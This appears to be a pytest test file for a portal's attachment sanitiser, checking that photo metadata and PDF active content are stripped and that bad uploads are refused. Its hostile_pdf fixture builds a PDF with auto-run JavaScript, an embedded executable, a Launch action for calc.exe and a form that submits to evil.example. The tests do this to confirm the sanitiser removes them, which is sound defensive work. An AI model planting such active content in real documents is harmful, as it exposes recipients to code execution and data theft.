"""Attachments made safe, with no database: real pictures and PDFs in, rebuilt files out."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

from portal.lib.text import has_text_direction_controls
from portal.lib.uploads import ALLOWED_TYPES, CleanFile, UploadRefused, clean_upload

WRONG_TYPE = "The selected file must be a PDF, PNG or JPG"
TOO_BIG = "The selected file must be smaller than 10MB"
EMPTY = "The selected file is empty"
UNREADABLE = "The selected file could not be read. Save it again as a PDF, PNG or JPG and try again"
PASSWORD = "The selected PDF is password-protected. Remove the password and try again"


def photo_exif() -> Image.Exif:
    """What a phone writes: its make, the way it was held, and where the photo was taken."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Orientation] = 6  # turned a quarter: shown upright only when applied
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 30.0, 12.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 7.0, 39.0)
    return exif


def picture(image_format: str, *, size=(40, 30), **options) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def refusal(data: bytes, filename: str) -> str:
    with pytest.raises(UploadRefused) as refused:
        clean_upload(data=data, filename=filename)
    return refused.value.message


@pytest.mark.parametrize(
    ("image_format", "content_type"), [("JPEG", "image/jpeg"), ("PNG", "image/png")]
)
def test_a_photo_comes_back_upright_without_its_location_or_camera(image_format, content_type):
    text = PngInfo()
    text.add_text("Comment", "taken at 12 Acacia Avenue")
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b"<exif:GPSLatitude>51,30.2N</exif:GPSLatitude></x:xmpmeta>"
    )
    if image_format == "PNG":
        options = {"pnginfo": text}
    else:
        options = {"comment": b"12 Acacia Avenue", "xmp": xmp}
    original = picture(image_format, exif=photo_exif(), **options)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    clean = clean_upload(data=original, filename="holiday photo.JPEG")

    assert clean.content_type == content_type
    assert clean.name == f"holiday photo.{'jpg' if image_format == 'JPEG' else 'png'}"
    assert clean.data != original
    assert clean.size == len(clean.data)
    rebuilt = Image.open(io.BytesIO(clean.data))
    assert rebuilt.format == image_format
    assert rebuilt.size == (30, 40)  # the orientation was applied, then dropped
    assert dict(rebuilt.getexif()) == {}
    assert "exif" not in rebuilt.info
    assert "comment" not in rebuilt.info and "Comment" not in rebuilt.info
    assert "xmp" not in rebuilt.info
    for secret in (b"PhoneCo", b"Acacia", b"GPSLatitude", b"51,30"):
        assert secret not in clean.data


def test_the_checksum_is_of_the_rebuilt_file():
    import hashlib

    clean = clean_upload(data=picture("PNG"), filename="chart.png")
    assert clean.sha256 == hashlib.sha256(clean.data).hexdigest()


def hostile_pdf(pages: int = 3) -> bytes:
    """A PDF that runs a script when opened, another when a page is shown, carries a file, and
    has a link that launches a program and a form that submits itself."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('opened')"))
    )
    page = pdf.pages[0]
    page.obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('page')"))
    )
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ-secret-payload")
    launch = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[10, 10, 100, 40],
            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\calc.exe")),
        )
    )
    submit = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[10, 50, 100, 80],
            A=pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect")
            ),
        )
    )
    web_link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[10, 90, 100, 120],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/")),
        )
    )
    carried = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=[10, 130, 30, 150],
            FS=pikepdf.AttachedFileSpec(pdf, b"second-secret-payload").obj,
        )
    )
    script_link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[10, 160, 100, 190],
            A=pikepdf.Dictionary(
                S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert('link')")
            ),
        )
    )
    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array([launch, submit, web_link, carried, script_link])
    )
    pdf.Root.AcroForm = pdf.make_indirect(
        pikepdf.Dictionary(Fields=pikepdf.Array(), NeedAppearances=True)
    )
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def every_dictionary(pdf: pikepdf.Pdf):
    for obj in pdf.objects:
        if isinstance(obj, pikepdf.Stream):
            yield obj.stream_dict
        elif isinstance(obj, pikepdf.Dictionary):
            yield obj
            for value in obj.values():
                if isinstance(value, pikepdf.Dictionary):
                    yield value


def test_a_pdf_comes_back_with_its_pages_and_none_of_its_active_content():
    original = hostile_pdf(pages=3)
    source = pikepdf.open(io.BytesIO(original))
    assert "/OpenAction" in source.Root and len(source.attachments) == 1

    clean = clean_upload(data=original, filename="letter from school.pdf")

    assert clean.content_type == "application/pdf"
    assert clean.name == "letter from school.pdf"
    rebuilt = pikepdf.open(io.BytesIO(clean.data))
    assert len(rebuilt.pages) == 3
    for key in ("/OpenAction", "/AA", "/Names", "/AcroForm"):
        assert key not in rebuilt.Root
    assert len(rebuilt.attachments) == 0
    assert "/AA" not in rebuilt.pages[0].obj
    actions = set()
    for dictionary in every_dictionary(rebuilt):
        assert "/AA" not in dictionary and "/JS" not in dictionary and "/EF" not in dictionary
        assert str(dictionary.get("/Subtype", "")) != "/FileAttachment"
        action = dictionary.get("/A")
        if isinstance(action, pikepdf.Dictionary):
            actions.add(str(action.S))
    # The web link stays; the launch, the submit and the javascript: address are gone.
    assert actions == {"/URI"}
    uris = [
        str(dictionary.A.URI)
        for dictionary in every_dictionary(rebuilt)
        if isinstance(dictionary.get("/A"), pikepdf.Dictionary)
    ]
    assert uris == ["https://example.org/"]
    for secret in (b"app.alert", b"secret-payload", b"calc.exe", b"evil.example"):
        assert secret not in clean.data


def test_a_web_page_renamed_as_a_pdf_is_refused():
    page = b"<!DOCTYPE html><html><body><script>fetch('/portal/')</script></body></html>"
    assert refusal(page, "report.pdf") == WRONG_TYPE


def test_a_gif_is_refused():
    assert refusal(picture("GIF"), "smile.gif") == WRONG_TYPE


def test_a_word_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as docx:
        docx.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        docx.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    assert refusal(out.getvalue(), "report.docx") == WRONG_TYPE


def test_an_empty_file_is_refused():
    assert refusal(b"", "nothing.pdf") == EMPTY


def test_a_file_over_10mb_is_refused_before_it_is_read():
    too_big = b"%PDF-1.7\n" + b"0" * (11 * 1024 * 1024)
    assert refusal(too_big, "scan.pdf") == TOO_BIG


def test_the_size_limit_follows_the_setting(settings):
    settings.ATTACHMENT_MAX_BYTES = 2 * 1024 * 1024
    assert refusal(b"%PDF-1.7\n" + b"0" * (3 * 1024 * 1024), "scan.pdf") == (
        "The selected file must be smaller than 2MB"
    )


def png_declaring(width: int, height: int) -> bytes:
    """A few hundred bytes that claim to be a picture of width x height."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("side", [7_000, 100_000])
def test_a_picture_bomb_is_refused_before_it_is_decoded(side):
    # 49 megapixels is past the portal's limit; 10 gigapixels past Pillow's own.
    assert refusal(png_declaring(side, side), "bomb.png") == UNREADABLE


def test_a_password_protected_pdf_is_refused():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    assert refusal(out.getvalue(), "locked.pdf") == PASSWORD


@pytest.mark.parametrize(
    "damaged",
    [
        pytest.param(lambda pdf: pdf[:40], id="truncated"),
        pytest.param(lambda pdf: b"%PDF-1.7\n" + bytes(range(256)) * 8, id="garbage"),
        pytest.param(lambda pdf: b"%PDF-1.7\n%%EOF\n", id="no pages"),
    ],
)
def test_a_damaged_pdf_is_refused_with_a_clear_message(damaged):
    assert refusal(damaged(hostile_pdf(pages=1)), "broken.pdf") == UNREADABLE


def test_a_damaged_picture_is_refused_with_a_clear_message():
    jpeg = picture("JPEG", size=(200, 200))
    assert refusal(jpeg[:300], "cut.jpg") == UNREADABLE


def test_the_name_is_cleaned_and_given_the_extension_of_what_the_file_is():
    png = picture("PNG")
    clean = clean_upload(data=png, filename="C:\\Users\\me\\cv\u202egnp.exe")
    assert clean.name == "cv gnp.png"
    assert clean_upload(data=png, filename="").name == "attachment.png"
    long = clean_upload(data=png, filename="a" * 300 + ".png").name
    assert len(long) == 100 and long.endswith(".png")


# Hypothesis: whatever arrives, a clean file of an allowed type or a refusal, never a crash.

SEEDS = [
    picture("PNG", exif=photo_exif()),
    picture("JPEG", exif=photo_exif()),
    hostile_pdf(pages=1),
]
MAGIC = [b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"PK\x03\x04"]


@st.composite
def spoiled_files(draw) -> bytes:
    """A real file with some bytes changed, cut short or extended."""
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(0, 8))):
        position = draw(st.integers(0, len(data) - 1))
        data[position] = draw(st.integers(0, 255))
    if draw(st.booleans()):
        data = data[: draw(st.integers(0, len(data)))]
    return bytes(data) + draw(st.binary(max_size=64))


contents = st.one_of(
    st.binary(max_size=2048),
    st.builds(lambda magic, rest: magic + rest, st.sampled_from(MAGIC), st.binary(max_size=2048)),
    spoiled_files(),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=contents, filename=st.text(max_size=300))
def test_any_file_is_either_made_safe_or_refused(data, filename):
    try:
        clean = clean_upload(data=data, filename=filename)
    except UploadRefused as refused:
        assert refused.message
        return
    assert isinstance(clean, CleanFile)
    assert clean.content_type in ALLOWED_TYPES
    assert 0 < clean.size == len(clean.data)
    assert 0 < len(clean.name) <= 100
    assert clean.name.endswith(
        {"application/pdf": ".pdf", "image/png": ".png"}.get(clean.content_type, ".jpg")
    )
    assert not has_text_direction_controls(clean.name)
    assert not any(ord(char) < 32 or ord(char) == 127 for char in clean.name)
    assert "/" not in clean.name and "\\" not in clean.name
    # What came out is itself a file the portal would take as it is.
    again = clean_upload(data=clean.data, filename=clean.name)
    assert again.content_type == clean.content_type
